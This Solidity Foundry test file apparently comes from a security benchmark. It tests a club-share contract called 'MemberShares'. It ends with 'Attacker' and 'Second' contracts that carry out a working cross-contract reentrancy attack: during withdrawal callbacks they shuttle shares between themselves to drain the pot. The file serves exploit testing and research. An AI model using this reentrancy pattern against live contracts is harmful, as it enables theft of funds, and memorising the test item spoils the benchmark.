// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./MemberShares.sol";

// assay-canary-525a76ba-9fbe-4c41-8c42-9872ac8a486e

interface Vm {
    function deal(address a, uint256 v) external;
    function expectRevert(bytes4 e) external;
    function prank(address a) external;
    function startPrank(address a) external;
    function stopPrank() external;
    function warp(uint256 t) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant CHAIR = address(0xC4A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant T0 = 1_700_000_000;

    MemberShares private club;
    Attacker private mallory;
    Again private again;

    function setUp() public {
        vm.warp(T0);
        vm.deal(address(this), 100 ether);
        club = new MemberShares(CHAIR);
        mallory = new Attacker(club);
        again = new Again(club);
        vm.startPrank(CHAIR);
        club.issue(ANA, 500);
        club.issue(BEN, 400);
        club.issue(address(mallory), 100);
        vm.stopPrank();
        (bool ok, ) = address(club).call{value: 100 ether}("");
        require(ok, "pot");
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        club.move(BEN, 100);
        club.allow(BEN, 50);
        require(club.ask(BEN, 10 ether) == 0 && club.ask(BEN, 1 ether) == 1, "asked");
        vm.stopPrank();
        vm.prank(BEN);
        club.take(ANA, BEN, 50);
        require(club.held(ANA) == 350 && club.held(BEN) == 550 && club.allowed(ANA, BEN) == 0, "moved");
        vm.warp(T0 + 7 days);
        vm.startPrank(CHAIR);
        club.grant(0);
        club.drop(1);
        club.pass(ANA);
        vm.stopPrank();
        require(BEN.balance == 10 ether, "granted");
        vm.prank(ANA);
        club.accept();
        require(club.chair() == ANA && club.next() == address(0), "chair");
        vm.prank(BEN);
        require(club.quit(500, BEN) == 45 ether && BEN.balance == 55 ether, "quit");
        require(club.sum() == 500 && club.held(BEN) == 50 && address(club).balance == 45 ether, "left");
        vm.prank(ANA);
        club.quit(350, ANA);
        require(ANA.balance == 31.5 ether, "quit too");
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(MemberShares.Denied.selector);
        club.pass(ANA);
        vm.expectRevert(MemberShares.Denied.selector);
        club.accept();
        vm.expectRevert(MemberShares.Denied.selector);
        club.issue(ANA, 1);
        vm.expectRevert(MemberShares.Denied.selector);
        club.ask(ANA, 1);
        vm.prank(ANA);
        club.ask(ANA, 1);
        vm.warp(T0 + 7 days);
        vm.expectRevert(MemberShares.Denied.selector);
        club.grant(0);
        vm.expectRevert(MemberShares.Denied.selector);
        club.drop(0);
        vm.expectRevert(MemberShares.Short.selector);
        club.take(ANA, BEN, 1);
    }

    function test_RefusesZeros() public {
        vm.startPrank(CHAIR);
        vm.expectRevert(MemberShares.Zero.selector);
        club.issue(address(0), 1);
        vm.expectRevert(MemberShares.Zero.selector);
        club.issue(ANA, 0);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert(MemberShares.Zero.selector);
        club.move(address(0), 1);
        vm.expectRevert(MemberShares.Zero.selector);
        club.ask(address(0), 1);
        vm.expectRevert(MemberShares.Zero.selector);
        club.ask(ANA, 0);
        vm.expectRevert(MemberShares.Zero.selector);
        club.quit(0, ANA);
        vm.expectRevert(MemberShares.Zero.selector);
        club.quit(1, address(0));
        vm.stopPrank();
    }

    function test_RefusesTooMuch() public {
        vm.startPrank(ANA);
        vm.expectRevert(MemberShares.Short.selector);
        club.move(BEN, 501);
        vm.expectRevert(MemberShares.Short.selector);
        club.quit(501, ANA);
        vm.expectRevert(MemberShares.Fail.selector);
        club.quit(1, address(this));
        club.ask(address(this), 1);
        club.ask(ANA, 1);
        vm.stopPrank();
        vm.startPrank(CHAIR);
        vm.warp(T0 + 7 days - 1);
        vm.expectRevert(MemberShares.Early.selector);
        club.grant(1);
        vm.warp(T0 + 7 days);
        club.grant(1);
        vm.expectRevert(MemberShares.Closed.selector);
        club.grant(1);
        vm.expectRevert(MemberShares.Closed.selector);
        club.drop(1);
        vm.expectRevert(MemberShares.Fail.selector);
        club.grant(0);
        vm.stopPrank();
    }

    function test_RefusesNesting() public {
        vm.prank(ANA);
        club.move(address(again), 10);
        vm.expectRevert(MemberShares.Fail.selector);
        again.go(5);
        again.go(6);
        require(club.held(address(again)) == 4, "once");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 60 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Again {
    MemberShares private c;
    uint256 private n;

    constructor(MemberShares c_) {
        c = c_;
    }

    function go(uint256 n_) external {
        n = n_;
        c.quit(n_, address(this));
    }

    receive() external payable {
        if (n == 5) {
            n = 0;
            c.quit(5, address(this));
        }
    }
}

contract Attacker {
    MemberShares private c;
    Second private s;

    constructor(MemberShares c_) {
        c = c_;
        s = new Second(c_);
    }

    function run() external {
        while (address(c).balance >= 20 ether) {
            c.quit(100, address(this));
            s.run();
        }
    }

    receive() external payable {
        if (msg.sender == address(c)) c.move(address(s), 100);
    }
}

contract Second {
    MemberShares private c;
    address private a;

    constructor(MemberShares c_) {
        c = c_;
        a = msg.sender;
    }

    function run() external {
        c.quit(100, address(this));
        (bool ok, ) = a.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        c.move(a, 100);
    }
}
